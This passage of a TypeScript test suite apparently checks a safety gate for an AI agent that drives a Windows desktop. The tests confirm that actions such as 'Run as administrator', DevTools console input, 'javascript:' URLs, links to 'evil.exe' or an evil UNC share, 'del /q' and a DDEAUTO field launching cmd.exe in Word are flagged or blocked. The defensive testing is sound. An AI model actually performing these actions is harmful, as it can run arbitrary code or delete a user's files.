        for (const name of ['OK', 'Apply', 'Finish', '']) rows.push([click, button(name), place]);
        rows.push([click, context(element('MenuItem', 'Export')), place]);
        rows.push([menu, context(element('MenuBar', 'Menu')), place], [enter, button('OK'), place]);
        for (const one of enters) rows.push([one, field, place]);
      }
    for (const name of ['Open', 'Open file', 'Keep', 'Behalten', 'setup.exe'])
      for (const role of ['Button', 'MenuItem'] as const)
        rows.push([click, context(element(role, name)), { app: CHROME, policy: granted }]);
    for (const seen of [
      context(element('Edit', 'x'), { address: 'devtools://devtools/x.html' }),
      context(element('Edit', 'x'), { dialogTitle: 'DevTools - a.example/' }),
      context(element('Edit', 'Console prompt')),
    ])
      for (const one of enters) rows.push([one, seen, { app: CHROME, policy: granted }]);
    const bar = context(element('Edit', 'Address and search bar'), { document: { kind: 'none', address: null } });
    for (const one of [
      call('type', { text: 'javascript:x' }),
      call('typeIntoElement', { name: 'x', text: 'javascript:x' }),
    ])
      rows.push([one, bar, { app: CHROME, policy: granted }]);
    rows.push([call('type', { text: 'script:x' }), { ...bar, held: 'java' }, { app: CHROME, policy: granted }]);
    for (const [one, seen, place] of rows)
      expect(
        await result(one, at(seen, place)),
        `${JSON.stringify(one.input)} ${place.app?.displayName} ${seen.element?.name}`,
      ).toContain('customCommand');
    for (const name of ['Cancel', 'Help'])
      expect(await result(click, at(button(name), { app: program('mmc.exe'), className: '#32770' })), name).toBeNull();
  });

  it('the command line of a file manager', async () => {
    for (const of of MANAGERS)
      for (const one of [call('type', { text: 'del /q x\n' }), call('key', { keySequence: 'enter' })])
        expect(await result(one, at(context(element('Edit', '')), { app: of })), of.displayName).toContain(
          'customCommand',
        );
  });

  it.each(phrasesOf`
    Open in Terminal | Open PowerShell window here | In Terminal öffnen | Open with Code | Install for all users
  `)('the entry %s in the menu of a file, by any control', async (name) => {
    expect(
      await result(call('clickElement', { name }), at(context(element('MenuItem', name)), { app: EXPLORER })),
    ).toContain('customCommand');
  });

  it.each(['Button', 'SplitButton', 'Hyperlink', 'MenuItem'] as const)('what runs, as a %s', async (role) => {
    for (const name of ['Run as administrator', 'Run with PowerShell'])
      expect(
        await result(call('clickElement', { name }), at(context(element(role, name)), { app: EXPLORER })),
      ).toContain('customCommand');
  });

  it('a folder’s own button that opens, and a link that names a file', async () => {
    const open = context(element('Button', 'Open'));
    expect(await result(call('clickElement', { name: 'Open' }), at(open, { app: EXPLORER }))).toContain(
      'customCommand',
    );
    expect(await result(call('clickElement', { name: 'Open' }), at(open))).toBeNull();
    for (const name of ['file:///C:/x/evil.exe', 'C:\\x\\evil', '\\\\evil\\share\\x'])
      expect(await result(call('clickElement', { name }), at(context(element('Hyperlink', name)))), name).toContain(
        'customCommand',
      );
    for (const name of ['Open file location', 'Open in new window'])
      expect(
        await result(call('clickElement', { name }), at(context(element('MenuItem', name)), { app: EXPLORER })),
        name,
      ).toBeNull();
  });

  it.each(['dir\u000f', '\u0016', '\u0019', 'a\u001b.', '\u0003'])(
    'the control characters of %j in a terminal',
    async (text) => {
      const seen = context(element('Document', 'cmd'));
      for (const one of [call('type', { text }), call('typeIntoElement', { name: 'cmd', text })])
        expect(await result(one, at(seen, { app: TERMINAL, className: 'ConsoleWindowClass' })), one.action).toContain(
          'customCommand',
        );
    },
  );

  it('the list of commands of an editor, its run keys, macros and fields of documents', async () => {
    const word = installed('C:\\Office\\WINWORD.EXE', 'Word');
    const palette = context(element('Edit', 'Type the name of a command to run.'));
    const editor = context(element('Edit', 'a.py'));
    const rows: ReadonlyArray<readonly [GateSubject, ElementContext, AppIdentity]> = [
      [call('key', { keySequence: 'enter' }), palette, IDEA],
      [call('type', { text: '>Tasks: Run Task\n' }), editor, IDEA],
      [call('key', { keySequence: 'shift+enter' }), editor, IDEA],
      [call('key', { keySequence: 'alt+f8 enter' }), editor, word],
      [call('type', { text: 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k x"' }), editor, word],
    ];
    for (const [one, seen, of] of rows)
      expect(await result(one, at(seen, { app: of })), JSON.stringify(one.input)).toContain('customCommand');
  });

  it('a button that is let go may end a drag', async () => {
    const bin = context(element('ListItem', 'Recycle Bin'));
    for (const one of [call('mouseUp', {}), call('virtualMouse', { action: 'up', x: 1, y: 1 })]) {
      expect(await result(one, at(bin, { app: EXPLORER }))).toContain('destructive');
      expect(await result(one, at(item('tool'), { app: EXPLORER }))).toContain('customCommand');
    }
  });
});

describe('[policy.pages] keys that show another page end a call', () => {
  const address = 'https://ok.example/a';
  const page = context(element('Edit', 'Search'), { address, document: { kind: 'page', address } });
  const limited: Place = {
    app: CHROME,
    policy: { grants: [{ app: CHROME.bundleId, tier: 'full' }], pages: ['https://ok.example'] },
  };
  const LEAVING = wordsOf`
    ctrl+tab ctrl+shift+tab ctrl+1 ctrl+t ctrl+n ctrl+w ctrl+l ctrl+pagedown f6 alt+d alt+left enter ctrl+shift+t
  `;
  it.each(LEAVING)('%s', async (chord) => {
    const key = (keySequence: string, more: object = {}): GateSubject => call('key', { keySequence, ...more });
    for (const one of [key(`${chord} enter`), key(`a ${chord} b`), key(chord, { repeat: 2 })])
      expect(await result(one, at(page, limited)), JSON.stringify(one.input)).toBe('blocked_by_policy');
    expect(await result(key(`a ${chord}`), at(page, limited))).toBeNull();
    expect(
      await result(key(`${chord} b`), at(page, { ...limited, policy: { ...limited.policy, pages: null } })),
    ).toBeNull();
  });

  it('text in the browser’s own field ends with its line; keys that edit do not end a call', async () => {
    const own = { ...page, document: { kind: 'none', address: null } } as const;
    expect(await result(call('type', { text: 'ok.example\nmore' }), at(own, limited))).toBe('blocked_by_policy');
    for (const one of [call('type', { text: 'one\ntwo' }), call('key', { keySequence: 'ctrl+a x y tab z' })])
      expect(await result(one, at(page, limited))).toBeNull();
  });
});
